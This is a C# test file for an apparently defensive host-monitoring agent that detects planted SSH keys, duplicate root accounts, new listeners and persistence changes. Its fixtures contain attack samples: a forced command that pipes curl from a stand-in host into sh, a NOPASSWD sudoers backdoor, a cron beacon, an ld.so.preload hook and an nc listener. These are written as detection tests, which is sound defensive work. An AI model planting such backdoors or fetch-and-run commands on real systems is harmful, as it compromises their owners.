using TrainGuard.Agent.Snapshots;
using TrainGuard.Agent.Spool;
using TrainGuard.Agent.Tests.Support;
using TrainGuard.Events;

namespace TrainGuard.Agent.Tests.Snapshots;

public sealed class SnapshotTests
{
    private static readonly DateTimeOffset T0 = new(2026, 11, 22, 8, 0, 0, TimeSpan.Zero);

    private static NodeSnapshot Take(NodeFixture node, DateTimeOffset at, NodeSnapshot? previous = null) =>
        new SnapshotReader(new SnapshotOptions { Root = node.Root }).Read(at, previous);

    [Fact]
    public void A_snapshot_reads_accounts_keys_listening_sockets_with_owners_and_persistence_files()
    {
        using var node = new NodeFixture();
        var s = Take(node, T0);

        Assert.Equal(["root", "daemon", "alice", "bob", "nobody"], s.Accounts.Select(a => a.Name));
        var key = Assert.Single(s.SshKeys);
        Assert.Equal(("alice", "/home/alice/.ssh/authorized_keys", AuthorizedKeysParserTests.Ed25519Fingerprint), (key.Account, key.Path, key.Fingerprint));

        Assert.Equal(2, s.Sockets.Count);
        var ssh = Assert.Single(s.Sockets, x => x.Port == 22);
        Assert.Equal(("tcp", "0.0.0.0", 100L, "sshd", "/usr/sbin/sshd"), (ssh.Transport, ssh.Address, ssh.Pid!.Value, ssh.Process, ssh.Executable));
        var v6 = Assert.Single(s.Sockets, x => x.Port == 631);
        Assert.Equal("::1", v6.Address);
        Assert.Null(v6.Pid);

        Assert.Equal(["/etc/crontab", "/etc/sudoers.d/admins"], s.Persistence.Select(p => p.Path));
        Assert.Equal("cron", s.Persistence[0].Kind);
        Assert.Equal("sudoers", s.Persistence[1].Kind);
    }

    [Fact]
    public void The_first_pass_is_a_baseline_of_state_events()
    {
        using var node = new NodeFixture();
        var events = SnapshotDiff.Diff(null, Take(node, T0));
        Assert.All(events, e =>
        {
            Assert.Equal(EventKinds.State, e.GetString(EventFields.Kind));
            Assert.True(e.GetBoolean("trainguard.snapshot.baseline"));
            Assert.Equal("snapshot", e.GetString(EventFields.Module));
        });
        Assert.Equal(5, events.Count(e => e.Action == EventActions.UserCreated));
        Assert.Single(events, e => e.Action == EventActions.SshKeyAdded);
        Assert.Equal(2, events.Count(e => e.Action == EventActions.SocketListen));
        Assert.Equal(2, events.Count(e => e.Action == EventActions.PersistenceChanged));
    }

    [Fact]
    public void An_unchanged_node_yields_no_events()
    {
        using var node = new NodeFixture();
        var first = Take(node, T0);
        Assert.Empty(SnapshotDiff.Diff(first, Take(node, T0.AddMinutes(1), first)));
    }

    [Fact]
    public void A_planted_key_with_a_forced_command_is_an_ssh_key_added_event_with_its_options()
    {
        using var node = new NodeFixture();
        var first = Take(node, T0);
        node.Append("home/bob/../alice/.ssh/authorized_keys", "command=\"curl -s http://x/a.sh|sh\",no-pty " + AuthorizedKeysParserTests.Ecdsa + "\n");
        var events = SnapshotDiff.Diff(first, Take(node, T0.AddMinutes(1), first));

        var added = Assert.Single(events);
        Assert.Equal(EventActions.SshKeyAdded, added.Action);
        Assert.Equal(EventKinds.Event, added.GetString(EventFields.Kind));
        Assert.Equal("alice", added.GetString("user.target.name"));
        Assert.Equal(AuthorizedKeysParserTests.EcdsaFingerprint, added.GetString("trainguard.ssh.key_fingerprint"));
        Assert.Equal("command=\"curl -s http://x/a.sh|sh\",no-pty", added.GetString("trainguard.ssh.key_options"));
        Assert.Equal("ops key", added.GetString("trainguard.ssh.key_comment"));
        Assert.Equal(2, added.GetInt64("trainguard.ssh.key_line"));
        Assert.Equal(["creation"], added.GetStrings(EventFields.Type));
    }

    [Fact]
    public void A_removed_key_is_an_ssh_key_removed_event()
    {
        using var node = new NodeFixture();
        var first = Take(node, T0);
        node.Write("home/alice/.ssh/authorized_keys", "# emptied\n");
        var removed = Assert.Single(SnapshotDiff.Diff(first, Take(node, T0.AddMinutes(1), first)));
        Assert.Equal(EventActions.SshKeyRemoved, removed.Action);
        Assert.Equal(AuthorizedKeysParserTests.Ed25519Fingerprint, removed.GetString("trainguard.ssh.key_fingerprint"));
    }

    [Fact]
    public void A_key_written_into_alices_file_by_bob_names_bob_from_the_audit_write()
    {
        // The enriched capture: bob (auid 1500) creates /tmp/research-host/home/alice/.ssh/authorized_keys at 1795428724.555.
        var (auditEvents, _) = Collect.AuditFile(Samples.EnrichedAudit);
        var join = new AuditJoin();
        auditEvents.ForEach(join.Observe);

        using var node = new NodeFixture();
        node.Write("etc/passwd", NodeFixture.Passwd.Replace("/home/alice:", "/tmp/research-host/home/alice:", StringComparison.Ordinal) + "\n");
        var writeTime = DateTimeOffset.FromUnixTimeMilliseconds(1795428724555);
        var first = Take(node, writeTime.AddMinutes(-1));
        node.Write("tmp/research-host/home/alice/.ssh/authorized_keys", AuthorizedKeysParserTests.Rsa + "\n");
        var events = SnapshotDiff.Diff(first, Take(node, writeTime.AddSeconds(30), first), join);

        var added = Assert.Single(events, e => e.Action == EventActions.SshKeyAdded);
        Assert.Equal("alice", added.GetString("user.target.name"));
        Assert.Equal("bob", added.GetString("user.audit.name"));
        Assert.Equal("1500", added.GetString("user.audit.id"));
        Assert.Equal(EventActions.FileCreated, added.GetString("trainguard.join.audit_action"));
        Assert.Equal("ssh_keys", added.GetString("trainguard.join.audit_key"));
        Assert.NotNull(added.GetString("trainguard.join.audit_event_id"));
        Assert.True(added.Has("process.pid"));
    }

    [Fact]
    public void An_audit_write_outside_the_join_window_is_not_blamed()
    {
        var (auditEvents, _) = Collect.AuditFile(Samples.EnrichedAudit);
        var join = new AuditJoin();
        auditEvents.ForEach(join.Observe);
        var writeTime = DateTimeOffset.FromUnixTimeMilliseconds(1795428724555);
        Assert.NotNull(join.FindWriter("/tmp/research-host/home/alice/.ssh/authorized_keys", writeTime.AddMinutes(5), TimeSpan.FromMinutes(15)));
        Assert.Null(join.FindWriter("/tmp/research-host/home/alice/.ssh/authorized_keys", writeTime.AddHours(2), TimeSpan.FromMinutes(15)));
        Assert.Null(join.FindWriter("/tmp/research-host/home/alice/.ssh/authorized_keys", writeTime.AddSeconds(-1), TimeSpan.FromMinutes(15)));
    }

    [Fact]
    public void A_second_uid_zero_account_is_flagged_as_a_duplicate()
    {
        using var node = new NodeFixture();
        var first = Take(node, T0);
        node.Append("etc/passwd", "toor:x:0:0::/root:/bin/bash\n");
        node.Write("etc/passwd", File.ReadAllText(node.Dir.Combine("etc", "passwd")).Replace("bob:x:1500:1500", "bob:x:0:1500", StringComparison.Ordinal));
        var events = SnapshotDiff.Diff(first, Take(node, T0.AddMinutes(1), first));

        var created = Assert.Single(events, e => e.Action == EventActions.UserCreated);
        Assert.Equal("toor", created.GetString("user.target.name"));
        Assert.True(created.GetBoolean("trainguard.uid_zero_duplicate"));
        Assert.Equal(75, created.GetInt64(EventFields.Severity));
        var changed = Assert.Single(events, e => e.Action == EventActions.UserChanged);
        Assert.Equal("bob", changed.GetString("user.target.name"));
        Assert.Equal(["uid: 1500 -> 0"], changed.GetStrings("trainguard.changes"));
        Assert.True(changed.GetBoolean("trainguard.uid_zero_duplicate"));
    }

    [Fact]
    public void Deleted_accounts_are_user_deleted_events()
    {
        using var node = new NodeFixture();
        var first = Take(node, T0);
        node.Write("etc/passwd", string.Join('\n', NodeFixture.Passwd.Split('\n').Where(l => !l.StartsWith("bob:", StringComparison.Ordinal))) + "\n");
        var deleted = Assert.Single(SnapshotDiff.Diff(first, Take(node, T0.AddMinutes(1), first)));
        Assert.Equal(EventActions.UserDeleted, deleted.Action);
        Assert.Equal("1500", deleted.GetString("user.target.id"));
    }

    [Fact]
    public void A_new_listener_and_a_closed_one_name_the_socket_and_its_process()
    {
        using var node = new NodeFixture();
        var first = Take(node, T0);
        node.Listen("tcp", "   2: 00000000:115C 00000000:0000 0A 00000000:00000000 00:00000000 00000000  1500        0 4444 1 0000000000000000 100 0 0 10 0", 4242, 4444, "nc");
        node.Write("proc/net/tcp6", NodeFixture.TcpHeader);
        node.Append("proc/net/udp", "   0: 0100000A:14E9 00000000:0000 07 00000000:00000000 00:00000000 00000000  1500        0 5555 2 0000000000000000 0\n");
        var events = SnapshotDiff.Diff(first, Take(node, T0.AddMinutes(1), first));

        var nc = Assert.Single(events, e => e.Action == EventActions.SocketListen && e.GetString("network.transport") == "tcp");
        Assert.Equal(4444, nc.GetInt64("source.port"));
        Assert.Equal("0.0.0.0", nc.GetString("source.ip"));
        Assert.Equal(4242, nc.GetInt64("process.pid"));
        Assert.Equal("nc", nc.GetString("process.name"));
        Assert.Equal("1500", nc.GetString("user.id"));
        var udp = Assert.Single(events, e => e.Action == EventActions.SocketListen && e.GetString("network.transport") == "udp");
        Assert.Equal(("10.0.0.1", 5353L), (udp.GetString("source.ip"), udp.GetInt64("source.port")));
        var closed = Assert.Single(events, e => e.Action == EventActions.SocketClosed);
        Assert.Equal(631, closed.GetInt64("source.port"));
    }

    [Fact]
    public void Cron_sudoers_systemd_and_preload_changes_are_persistence_events_with_line_diffs()
    {
        using var node = new NodeFixture();
        var first = Take(node, T0);
        node.Append("etc/crontab", "* * * * * root /tmp/.x/beacon\n");
        node.Write("etc/sudoers.d/zz-backdoor", "bob ALL=(ALL) NOPASSWD: ALL\n");
        node.Write("etc/ld.so.preload", "/usr/lib/libhook.so\n");
        node.Write("home/bob/.config/systemd/user/miner.service", "[Service]\nExecStart=/home/bob/miner\n");
        File.Delete(node.Dir.Combine("etc", "sudoers.d", "admins"));
        var events = SnapshotDiff.Diff(first, Take(node, T0.AddMinutes(1), first));
        Assert.All(events, e => Assert.Equal(EventActions.PersistenceChanged, e.Action));

        var cron = Assert.Single(events, e => e.GetString("file.path") == "/etc/crontab");
        Assert.Equal(["change"], cron.GetStrings(EventFields.Type));
        Assert.Equal(["* * * * * root /tmp/.x/beacon"], cron.GetStrings("trainguard.diff.added"));
        Assert.Equal("+1 -0 lines", cron.GetString("trainguard.diff.summary"));

        var sudo = Assert.Single(events, e => e.GetString("file.path") == "/etc/sudoers.d/zz-backdoor");
        Assert.Equal(["creation"], sudo.GetStrings(EventFields.Type));
        Assert.Equal("sudoers", sudo.GetString("trainguard.persistence.kind"));

        var preload = Assert.Single(events, e => e.GetString("file.path") == "/etc/ld.so.preload");
        Assert.Equal("high", preload.GetString(EventFields.TrainGuardSeverity));

        var unit = Assert.Single(events, e => e.GetString("file.path") == "/home/bob/.config/systemd/user/miner.service");
        Assert.Equal("systemd-user", unit.GetString("trainguard.persistence.kind"));

        var gone = Assert.Single(events, e => e.GetString("file.path") == "/etc/sudoers.d/admins");
        Assert.Equal(["deletion"], gone.GetStrings(EventFields.Type));
        Assert.Equal(["%sudo ALL=(ALL:ALL) ALL"], gone.GetStrings("trainguard.diff.removed"));
    }

    [Fact]
    public void A_snapshot_survives_a_save_and_load_round_trip()
    {
        using var node = new NodeFixture();
        var s = Take(node, T0);
        var path = node.Dir.Combine("state.json");
        s.Save(path);
        var loaded = NodeSnapshot.Load(path)!;
        Assert.Empty(SnapshotDiff.Diff(loaded, Take(node, T0.AddMinutes(1), loaded)));
        Assert.Equal(s.SshKeys, loaded.SshKeys);
    }

    [Fact]
    public void Fifos_and_empty_files_are_never_read_and_a_fifo_key_file_is_reported()
    {
        using var node = new NodeFixture();
        File.Delete(node.Dir.Combine("home", "alice", ".ssh", "authorized_keys"));
        var mkfifo = System.Diagnostics.Process.Start("mkfifo", node.Dir.Combine("home", "alice", ".ssh", "authorized_keys"));
        mkfifo.WaitForExit();
        node.Write("home/bob/.ssh/authorized_keys", string.Empty);
        var s = Take(node, T0);
        Assert.Empty(s.SshKeys);
        var fifo = Assert.Single(s.KeyFileProblems);
        Assert.Equal(("alice", "/home/alice/.ssh/authorized_keys", "fifo"), (fifo.Account, fifo.Path, fifo.Type));
        Assert.Contains(s.Problems, p => p.Contains("/home/alice/.ssh/authorized_keys", StringComparison.Ordinal) && p.Contains("not a regular file", StringComparison.Ordinal));
    }

    [Fact]
    public void An_authorized_keys_over_1_MiB_is_no_longer_skipped_whole_and_a_key_at_its_end_is_reported()
    {
        using var node = new NodeFixture();
        var first = Take(node, T0);
        var padding = string.Concat(Enumerable.Repeat("# " + new string('#', 1000) + "\n", 2100));
        node.Write("home/alice/.ssh/authorized_keys", AuthorizedKeysParserTests.Ed25519 + "\n" + padding + AuthorizedKeysParserTests.Rsa + " hidden\n");
        Assert.True(new FileInfo(node.Dir.Combine("home", "alice", ".ssh", "authorized_keys")).Length > 2 * 1024 * 1024);

        var added = Assert.Single(SnapshotDiff.Diff(first, Take(node, T0.AddMinutes(1), first)));
        Assert.Equal(EventActions.SshKeyAdded, added.Action);
        Assert.Equal(AuthorizedKeysParserTests.RsaFingerprint, added.GetString("trainguard.ssh.key_fingerprint"));
        Assert.Equal(2102, added.GetInt64("trainguard.ssh.key_line"));
    }

    [Fact]
    public void A_key_hidden_behind_a_line_over_64_KiB_is_no_longer_dropped_but_reported_with_its_hash()
    {
        using var node = new NodeFixture();
        var first = Take(node, T0);
        var longComment = AuthorizedKeysParserTests.Rsa + " " + new string('C', 70_000);
        var longOptions = "command=\"" + new string('x', 70_000) + "\" " + AuthorizedKeysParserTests.Ecdsa;
        node.Append("home/alice/.ssh/authorized_keys", longComment + "\n" + longOptions + "\n");
        var events = SnapshotDiff.Diff(first, Take(node, T0.AddMinutes(1), first));
        Assert.Equal(2, events.Count);
        Assert.All(events, e =>
        {
            Assert.Equal(EventActions.SshKeyAdded, e.Action);
            Assert.Equal(75, e.GetInt64(EventFields.Severity));
        });

        // The key before the long comment is read; the line's length and hash say what was cut.
        var key = Assert.Single(events, e => e.GetInt64("trainguard.ssh.key_line") == 2);
        Assert.Equal(AuthorizedKeysParserTests.RsaFingerprint, key.GetString("trainguard.ssh.key_fingerprint"));
        Assert.Equal(System.Text.Encoding.UTF8.GetByteCount(longComment), key.GetInt64("trainguard.ssh.line_bytes"));
        Assert.Equal(Convert.ToHexStringLower(System.Security.Cryptography.SHA256.HashData(System.Text.Encoding.UTF8.GetBytes(longComment))), key.GetString("trainguard.ssh.line_sha256"));

        // Options longer than 64 KiB: no key can be read, the line itself is the fact.
        var line = Assert.Single(events, e => e.GetInt64("trainguard.ssh.key_line") == 3);
        Assert.True(line.GetBoolean("trainguard.ssh.unparsed"));
        var hash = Convert.ToHexStringLower(System.Security.Cryptography.SHA256.HashData(System.Text.Encoding.UTF8.GetBytes(longOptions)));
        Assert.Equal(hash, line.GetString("trainguard.ssh.line_sha256"));
        Assert.Equal("line-sha256:" + hash, line.GetString("trainguard.ssh.key_fingerprint"));
        Assert.StartsWith("command=\"xxxx", line.GetString("trainguard.ssh.key_comment"), StringComparison.Ordinal);
        Assert.Contains("longer than 65536", line.GetString("trainguard.ssh.unparsed_reason"), StringComparison.Ordinal);
    }

    [Fact]
    public void A_key_file_that_cannot_be_read_is_an_event_and_its_keys_are_not_reported_removed()
    {
        using var node = new NodeFixture();
        var first = Take(node, T0);
        var path = node.Dir.Combine("home", "alice", ".ssh", "authorized_keys");
        File.Delete(path);
        File.CreateSymbolicLink(path, path);

        var second = Take(node, T0.AddMinutes(1), first);
        var e = Assert.Single(SnapshotDiff.Diff(first, second));
        Assert.Equal(AgentActions.SshKeyFileUnreadable, e.Action);
        Assert.Equal("alice", e.GetString("user.target.name"));
        Assert.Equal("/home/alice/.ssh/authorized_keys", e.GetString("file.path"));
        Assert.Contains("symbolic links", e.GetString("error.message"), StringComparison.Ordinal);
        Assert.Equal(50, e.GetInt64(EventFields.Severity));
        Assert.Single(second.SshKeys);

        // Reported once while it lasts.
        Assert.Empty(SnapshotDiff.Diff(second, Take(node, T0.AddMinutes(2), second)));
    }

    [Fact]
    public void Key_files_named_by_sshd_configs_AuthorizedKeysFile_through_an_include_are_watched()
    {
        using var node = new NodeFixture();
        node.Write("etc/ssh/sshd_config", "Port 22\nInclude sshd_config.d/*.conf\n");
        node.Write("etc/ssh/sshd_config.d/50-keys.conf", "AuthorizedKeysFile /etc/ssh/keys/%u .ssh/authorized_keys\n");
        var first = Take(node, T0);
        Assert.Equal(["/etc/ssh/keys/%u", ".ssh/authorized_keys", ".ssh/authorized_keys2"], first.AuthorizedKeysFiles);
        Assert.Contains(first.Persistence, p => p.Path == "/etc/ssh/sshd_config.d/50-keys.conf" && p.Kind == "sshd");

        node.Write("etc/ssh/keys/bob", AuthorizedKeysParserTests.Ecdsa + "\n");
        var added = Assert.Single(SnapshotDiff.Diff(first, Take(node, T0.AddMinutes(1), first)));
        Assert.Equal(EventActions.SshKeyAdded, added.Action);
        Assert.Equal(("bob", "/etc/ssh/keys/bob"), (added.GetString("user.target.name"), added.GetString("file.path")));
    }

    [Fact]
    public void A_new_AuthorizedKeysFile_in_sshd_config_is_a_persistence_change_and_its_keys_appear_in_the_same_pass()
    {
        using var node = new NodeFixture();
        node.Write("etc/ssh/sshd_config", "Port 22\n");
        node.Write("srv/keys/alice.pub", AuthorizedKeysParserTests.Rsa + " backdoor\n");
        var first = Take(node, T0);

        node.Write("etc/ssh/sshd_config", "Port 22\nMatch User alice\n    AuthorizedKeysFile=\"/srv/keys/%u.pub\"\n");
        var events = SnapshotDiff.Diff(first, Take(node, T0.AddMinutes(1), first));
        var config = Assert.Single(events, e => e.Action == EventActions.PersistenceChanged);
        Assert.Equal(("/etc/ssh/sshd_config", "sshd"), (config.GetString("file.path"), config.GetString("trainguard.persistence.kind")));
        Assert.Contains("    AuthorizedKeysFile=\"/srv/keys/%u.pub\"", config.GetStrings("trainguard.diff.added"));
        var key = Assert.Single(events, e => e.Action == EventActions.SshKeyAdded);
        Assert.Equal("/srv/keys/alice.pub", key.GetString("file.path"));
        Assert.Equal(AuthorizedKeysParserTests.RsaFingerprint, key.GetString("trainguard.ssh.key_fingerprint"));
    }

    [Theory]
    [InlineData("%h/.ssh/authorized_keys", "/home/alice/.ssh/authorized_keys")]
    [InlineData(".ssh/keys", "/home/alice/.ssh/keys")]
    [InlineData("/etc/ssh/keys/%u", "/etc/ssh/keys/alice")]
    [InlineData("/var/keys/%U/100%%", "/var/keys/1600/100%")]
    public void AuthorizedKeysFile_tokens_expand_as_sshd_expands_them(string pattern, string expected)
    {
        var alice = new AccountState("alice", 1600, 1600, "/home/alice/", "/bin/bash");
        Assert.Equal(expected, SshdConfig.Expand(pattern, alice, out var error));
        Assert.Null(error);
    }

    [Fact]
    public void An_unknown_AuthorizedKeysFile_token_is_a_problem_not_a_guess()
    {
        var alice = new AccountState("alice", 1600, 1600, "/home/alice", "/bin/bash");
        Assert.Null(SshdConfig.Expand("/keys/%i", alice, out var error));
        Assert.Contains("unknown token %i", error, StringComparison.Ordinal);
    }

    [Fact]
    public void Proc_net_lines_parse_ipv4_and_ipv6_in_host_order()
    {
        Assert.Equal(("127.0.0.1", 8080), ProcNet.ParseEndpoint("0100007F:1F90", v6: false));
        Assert.Equal(("::1", 631), ProcNet.ParseEndpoint("00000000000000000000000001000000:0277", v6: true));
        Assert.Equal(("10.1.2.3", 22), ProcNet.ParseEndpoint("0000000000000000FFFF00000302010A:0016", v6: true));
        Assert.Throws<TrainGuard.Parsing.MalformedInputException>(() => ProcNet.ParseEndpoint("zz00007F:1F90", v6: false));
        Assert.Throws<TrainGuard.Parsing.MalformedInputException>(() => ProcNet.TryParseListening("0: short", "tcp", v6: false));
    }
}
